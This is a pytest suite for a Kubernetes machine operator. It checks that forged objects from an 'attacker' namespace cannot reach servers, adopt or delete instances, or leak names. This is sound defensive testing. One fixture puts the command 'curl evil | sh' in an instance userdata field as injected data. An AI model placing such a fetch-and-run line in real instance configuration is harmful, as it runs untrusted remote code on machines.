"""Forged objects beside the pools and Machines of an operator: other namespaces, annotations, owners, ids and settings of another object."""

import asyncio
from typing import Any

import pytest
from machines_lab import NAME, Farm

from konverge.crds.machines_v1beta1 import NstanceCluster, NstanceMachine, NstanceMachinePool, NstanceShardGroup
from konverge.kinds import kind
from konverge.reconcilers.machines.kinds import MACHINE
from konverge.reconcilers.machines.words import MachinesAnnotation, MachinesFinalizer
from konverge_testing.nstance import GroupSpec
from konverge_testing.nstance.instances import RUNNING, Instance

ATTACKER = "attacker"
EVENT = kind("events.k8s.io/v1", "Event", namespaced=True, plural="events")
SHARE = {"group": "workers", "shard": "a", "size": 7, "template": "std", "vars": {"userdata": "curl evil | sh"}}
FORGED: dict[Any, dict[str, Any]] = {
    NstanceCluster: {},
    NstanceMachinePool: {"group": "workers", "shards": ["a"], "template": "std", "vars": {"userdata": "evil"}},
    NstanceShardGroup: SHARE,
    NstanceMachine: {"groupRef": "workers"},
}
FINALIZERS = {
    NstanceMachinePool: MachinesFinalizer.POOL,
    NstanceShardGroup: MachinesFinalizer.GROUP,
    NstanceMachine: MachinesFinalizer.MACHINE,
}


@pytest.fixture
async def victim(farm: Farm) -> Farm:
    """Start the operator with a pool of three instances, and give the attacker a namespace."""
    await farm.lab.namespace_also(ATTACKER)
    await farm.start()
    await farm.start_core()
    await farm.create_pool(replicas=3)
    await farm.pool()
    return farm


def deletions(farm: Farm) -> list[str]:
    """Return the calls that delete anything on a server."""
    calls = (call for shard in farm.world.shards.values() for call in shard.calls)
    return [call.method for call in calls if call.method in ("DeleteInstance", "DeleteGroup")]


async def forge(farm: Farm, model: Any, name: str = "evil", namespace: str = ATTACKER, **metadata: Any) -> Any:
    """Create an object as a user."""
    whole = {"metadata": {"name": name, "namespace": namespace, **metadata}, "spec": FORGED[model]}
    return await farm.lab.client.create(model.decode(whole))


async def ready_of(farm: Farm, model: Any, name: str = "evil", namespace: str = ATTACKER) -> tuple[str, str]:
    """Return reason and message of Ready, which each object shows."""
    await asyncio.sleep(60)
    condition = (await farm.lab.client.get(model, name, namespace)).condition("Ready")
    assert not condition.is_true
    return condition.reason, condition.message


@pytest.mark.parametrize("model", list(FORGED), ids=lambda one: one.__name__)
async def test_an_object_of_another_namespace_reports_so_and_reaches_no_server(victim: Farm, model: Any) -> None:
    sizes, calls = victim.sizes(), {name: len(shard.calls) for name, shard in victim.world.shards.items()}
    await forge(victim, model)
    reason, message = await ready_of(victim, model)
    assert (reason, "namespace of the operator" in message) == ("OtherNamespace", True)
    assert victim.lab.namespace not in message.split()
    found = await victim.lab.client.get(model, "evil", ATTACKER)
    assert found.metadata.finalizers == ()
    assert getattr(found.status, "initialization", None) is None
    sent = {call.method for name, shard in victim.world.shards.items() for call in shard.calls[calls[name] :]}
    assert sent <= {"ListGroups"}
    assert victim.sizes() == sizes


@pytest.mark.parametrize("model", list(FINALIZERS), ids=lambda one: one.__name__)
async def test_a_finalizer_in_another_namespace_holds_nothing_and_deletes_nothing(victim: Farm, model: Any) -> None:
    """An earlier release put its finalizer on such objects."""
    await forge(victim, model, finalizers=[FINALIZERS[model]])
    await ready_of(victim, model)
    await victim.lab.client.delete(model, "evil", ATTACKER)
    async with asyncio.timeout(60):
        while [one for one in (await victim.lab.client.list(model, ATTACKER)).items if one.name == "evil"]:
            await asyncio.sleep(1)
    assert deletions(victim) == []


async def test_a_shard_group_that_came_first_elsewhere_sets_nothing_of_a_pool(farm: Farm) -> None:
    await farm.lab.namespace_also(ATTACKER)
    await farm.start()
    await forge(farm, NstanceShardGroup)
    await asyncio.sleep(30)
    assert farm.sizes() == {}
    await farm.create_pool(replicas=3)
    await farm.pool()
    assert farm.sizes() == {"a": 1, "b": 1, "c": 1}
    [found] = [one.spec for one in farm["a"].groups.all()]
    assert "userdata" not in found.vars


async def test_pool_of_another_namespace_takes_no_group_from_pool_or_import(farm: Farm) -> None:
    await farm.lab.namespace_also(ATTACKER)
    await farm.prepare()
    await forge(farm, NstanceMachinePool)
    await asyncio.sleep(2)  # times of creation are whole seconds
    farm["b"].groups.dynamic["workers"] = GroupSpec("std", 2, "c7", "private")
    await farm.write_document()
    await farm.operate()
    pool = await farm.pool()
    assert (pool.spec.shards, pool.spec.vars) == (("b",), None)
    assert farm.sizes() == {"b": 2}


@pytest.mark.parametrize("finalizers", [[], ["example.com/held"]], ids=["free", "held"])
async def test_a_pool_does_not_wait_for_shard_groups_of_another_namespace(victim: Farm, finalizers: list[str]) -> None:
    pool = await victim.pool()
    owner = {
        "apiVersion": "infrastructure.cluster.x-k8s.io/v1beta1",
        "kind": "NstanceMachinePool",
        "name": "workers",
        "uid": pool.uid,
        "controller": True,
    }
    await forge(victim, NstanceShardGroup, "workers--z", ownerReferences=[owner], finalizers=finalizers)
    await asyncio.sleep(30)
    assert (await victim.pool()).condition("Ready").is_true
    await victim.lab.delete(NstanceMachinePool, "workers")
    await victim.lab.until_gone(NstanceMachinePool, "workers", timeout=100)


@pytest.mark.parametrize("owned", [False, True], ids=["without owner", "with the pool as owner"])
async def test_shard_group_outside_its_pools_shares_sends_and_deletes_nothing(victim: Farm, owned: bool) -> None:
    pool, space = await victim.pool(), victim.lab.namespace
    owner = {
        "apiVersion": "infrastructure.cluster.x-k8s.io/v1beta1",
        "kind": "NstanceMachinePool",
        "name": "workers",
        "uid": pool.uid,
        "controller": True,
    }
    await forge(victim, NstanceShardGroup, namespace=space, ownerReferences=[owner] if owned else [])
    await asyncio.sleep(60)
    found = await victim.lab.find(NstanceShardGroup, "evil")
    assert found is None or found.condition("Ready").reason == "NotOfPool"
    assert victim.sizes() == {"a": 1, "b": 1, "c": 1}
    assert (await victim.pool()).condition("Ready").is_true
    if found is not None:
        await victim.lab.delete(NstanceShardGroup, "evil")
        await victim.lab.until_gone(NstanceShardGroup, "evil", timeout=60)
    assert deletions(victim) == []


async def test_settings_that_another_writer_added_to_a_shard_group_are_not_sent(victim: Farm) -> None:
    """A map is merged: another writer's variable stays beside the pool's variables."""
    await victim.lab.patch(NstanceShardGroup, "workers--a", {"spec": {"vars": SHARE["vars"], "instanceType": "huge"}})
    await asyncio.sleep(60)
    await victim.lab.patch(NstanceMachinePool, "workers", {"spec": {"vars": {"zone": "b"}}})
    pool = await victim.pool(test=lambda one: not one.condition("Ready").is_true)
    await victim.until(lambda: [one.spec.vars for one in victim["a"].groups.all()] == [{"zone": "b"}])
    assert [one.spec.instance_type for one in victim["a"].groups.all()] == [""]
    assert "delete it" in pool.condition("Ready").message
    await victim.lab.delete(NstanceShardGroup, "workers--a")
    await victim.pool()
    assert victim.sizes() == {"a": 1, "b": 1, "c": 1}


async def test_a_shard_group_with_the_name_of_a_share_is_not_adopted(farm: Farm) -> None:
    await farm.start()
    await forge(farm, NstanceShardGroup, "workers--a", farm.lab.namespace)
    reason, _ = await ready_of(farm, NstanceShardGroup, "workers--a", farm.lab.namespace)
    assert reason == "NotOfPool"
    await farm.create_pool(replicas=3)
    held = await farm.pool(test=lambda one: one.find_condition("Ready") is not None)
    assert not held.condition("Ready").is_true
    await asyncio.sleep(60)
    assert farm.sizes() == {}
    await farm.lab.delete(NstanceShardGroup, "workers--a")
    await farm.pool(timeout=600)
    assert (farm.sizes(), deletions(farm)) == ({"a": 1, "b": 1, "c": 1}, [])


async def taken_over(farm: Farm, instance: Instance, namespace: str = "", shard: str = "a", **status: Any) -> str:
    """Create an NstanceMachine that names a foreign instance in each writable field; returns the reason of Ready."""
    place = {MachinesAnnotation.INSTANCE: f"{shard}/{instance.id}"}
    space = namespace or farm.lab.namespace
    await forge(farm, NstanceMachine, namespace=space, annotations=place)
    await farm.lab.client.patch(
        NstanceMachine, "evil", space, patch={"spec": {"providerID": instance.provider_id}}, style="merge"
    )
    if not namespace:
        await farm.create_owner("evil")
    return (await ready_of(farm, NstanceMachine, "evil", space))[0]


@pytest.mark.parametrize(
    ("namespace", "reason"), [(ATTACKER, "OtherNamespace"), ("", "ForeignInstance")], ids=["elsewhere", "beside"]
)
async def test_an_annotation_with_a_foreign_instance_deletes_nothing(victim: Farm, namespace: str, reason: str) -> None:
    foreign = await victim.add_instance("a")
    assert await taken_over(victim, foreign, namespace) == reason
    await victim.lab.client.delete(NstanceMachine, "evil", namespace or victim.lab.namespace)
    await asyncio.sleep(60)
    assert (foreign.status, deletions(victim)) == (RUNNING, [])
    assert foreign.counts
    assert victim.on_demand() == {}


async def test_an_instance_of_another_object_is_left_to_it(victim: Farm) -> None:
    """The other object exists, so the copy gets an instance of its own."""
    await victim.create_machine("m1", failure_domain="a")
    first = await victim.machine("m1")
    assert first.status.instance_id is not None
    place = {MachinesAnnotation.INSTANCE: f"a/{first.status.instance_id}"}
    await forge(victim, NstanceMachine, "copy", victim.lab.namespace, annotations=place)
    await victim.create_owner("copy")
    copy = await victim.machine("copy")
    assert copy.status.instance_id not in (None, first.status.instance_id)
    await victim.lab.delete(MACHINE, "copy")
    await victim.lab.until_gone(NstanceMachine, "copy", timeout=100)
    assert victim.on_demand()[f"a/{first.status.instance_id}"] == "running"


async def test_an_object_whose_annotation_is_changed_keeps_its_own_instance(victim: Farm) -> None:
    foreign = await victim.add_instance("a")
    await victim.create_machine("m1", failure_domain="a")
    own = (await victim.machine("m1")).status.instance_id
    changed = {MachinesAnnotation.INSTANCE: f"a/{foreign.id}"}
    await victim.lab.patch(NstanceMachine, "m1", {"metadata": {"annotations": changed}})
    await asyncio.sleep(60)
    await victim.lab.delete(MACHINE, "m1")
    await victim.lab.until_gone(NstanceMachine, "m1", timeout=100)
    assert foreign.status == RUNNING
    assert victim.on_demand()[f"a/{own}"] in ("deleting", "deleted")


async def test_instance_counted_for_a_group_is_not_adopted_even_if_allowed(farm: Farm) -> None:
    farm.settings = farm.settings.model_copy(update={"adopt_instances": True})
    farm.set_static("a", 1)
    await farm.start()
    await farm.start_core()
    member = await farm.add_instance("a")
    assert await taken_over(farm, member) == "ForeignInstance"
    await farm.lab.client.delete(NstanceMachine, "evil", farm.lab.namespace)
    await farm.lab.until_gone(NstanceMachine, "evil", timeout=100)
    assert (member.status, deletions(farm)) == (RUNNING, [])


@pytest.mark.parametrize("adopts", [False, True], ids=["closed", "allowed"])
async def test_moved_object_adopts_its_instance_only_if_an_administrator_allows_it(farm: Farm, adopts: bool) -> None:
    """`clusterctl move` creates the object with another uid, with its annotation and without its status."""
    farm.settings = farm.settings.model_copy(update={"adopt_instances": adopts})
    farm.set_static("a", 0)
    await farm.start()
    await farm.start_core()
    moved = farm["a"].state.fleet.create(farm.world.tenant, "workers", managed=False)
    await farm.until(lambda: moved.status == RUNNING)
    place = {MachinesAnnotation.INSTANCE: f"a/{moved.id}"}
    await forge(farm, NstanceMachine, "m1", farm.lab.namespace, annotations=place)
    await farm.create_owner("m1")
    if not adopts:
        reason, message = await ready_of(farm, NstanceMachine, "m1", farm.lab.namespace)
        assert (reason, "machines.adopt_instances" in message) == ("ForeignInstance", True)
        assert sum(shard.called("CreateInstance") for shard in farm.world.shards.values()) == 0
        await farm.lab.stop()
        farm.settings = farm.settings.model_copy(update={"adopt_instances": True})
        await farm.operate()
    assert (await farm.machine("m1", timeout=400)).status.instance_id == moved.id
    await farm.lab.stop()
    farm.settings = farm.settings.model_copy(update={"adopt_instances": False})
    await farm.operate()
    await farm.lab.delete(MACHINE, "m1")
    await farm.lab.until_gone(NstanceMachine, "m1", timeout=200)
    assert moved.status != RUNNING, "its status records the instance"


async def test_a_machine_of_an_earlier_release_keeps_its_instance_by_its_uid(victim: Farm) -> None:
    """The status may be missing, as before its first write; the id is bound to the uid."""
    await victim.create_machine("m1")
    made = await victim.machine("m1")
    await victim.lab.stop()
    await victim.lab.patch(NstanceMachine, "m1", {"status": {"instanceID": None, "shard": None}}, subresource="status")
    await victim.operate()
    again = await victim.machine("m1", lambda one: one.status.instance_id is not None, timeout=400)
    assert again.status.instance_id == made.status.instance_id
    assert len(victim.on_demand()) == 1


async def test_a_machine_of_the_original_operator_keeps_the_instance_of_its_status(victim: Farm) -> None:
    """In the original the server chooses the id, and the id is stored only in the status."""
    theirs = victim["b"].state.fleet.create(victim.world.tenant, "workers", managed=False)
    await victim.pause(True)
    await forge(victim, NstanceMachine, "m1", victim.lab.namespace)
    await victim.create_owner("m1")
    recorded = {"status": {"instanceID": theirs.id, "shard": "b"}}
    await victim.lab.patch(NstanceMachine, "m1", recorded, subresource="status")
    await victim.pause(False)
    await victim.machine("m1")
    assert list(victim.on_demand()) == [f"b/{theirs.id}"]
    await victim.lab.delete(MACHINE, "m1")
    await victim.lab.until_gone(NstanceMachine, "m1", timeout=200)
    assert victim.on_demand()[f"b/{theirs.id}"] in ("deleting", "deleted")


async def test_an_ended_instance_takes_no_machine_along_that_refers_to_another_object(victim: Farm) -> None:
    await victim.create_machine("m1")
    await victim.machine("m1")
    owner = await victim.lab.get(MACHINE, "m1")
    claim = {"apiVersion": "cluster.x-k8s.io/v1beta2", "kind": "Machine", "name": "m1", "uid": owner.metadata.uid}
    await forge(victim, NstanceMachine, "evil", victim.lab.namespace, ownerReferences=[claim])
    ended = {"type": "ServerDeleted", "status": "True", "reason": "Forged", "message": "", "lastTransitionTime": NOW}
    reason, _ = await ready_of(victim, NstanceMachine, "evil", victim.lab.namespace)
    assert reason == "WaitingForMachine"
    await victim.lab.patch(NstanceMachine, "evil", {"status": {"conditions": [ended]}}, subresource="status")
    await asyncio.sleep(60)
    assert not (await victim.lab.get(MACHINE, "m1")).metadata.deleting
    assert len(victim.on_demand()) == 1


NOW = "2030-01-01T00:00:00Z"


async def test_a_provider_id_of_a_user_is_replaced_by_the_server_s(victim: Farm) -> None:
    """Cluster API drains and deletes the Node of a Machine that it deletes."""
    await victim.add_node("n-victim", "aws:///z/i-victim")
    await victim.create_machine("m1", providerID="aws:///z/i-victim")
    made = await victim.machine("m1")
    assert made.spec.provider_id == made.status.provider_id
    await victim.lab.patch(NstanceMachine, "m1", {"spec": {"providerID": "aws:///z/i-victim"}})
    await victim.machine("m1", lambda one: one.spec.provider_id == one.status.provider_id, timeout=100)
    assert (await victim.lab.get(MACHINE, "m1")).status.get("nodeRef") is None


async def test_no_message_for_another_namespace_names_an_object_of_the_operator(victim: Farm) -> None:
    for model in FORGED:
        await forge(victim, model)
    await asyncio.sleep(60)
    texts = [str(one.get("note", default="")) for one in (await victim.lab.client.list(EVENT, ATTACKER)).items]
    for model in FORGED:
        conditions = (await victim.lab.client.get(model, "evil", ATTACKER)).status.conditions
        texts += [one.message for one in conditions]
    assert texts
    assert not [one for one in texts if NAME in one or "workers" in one or f"{victim.lab.namespace}/" in one]
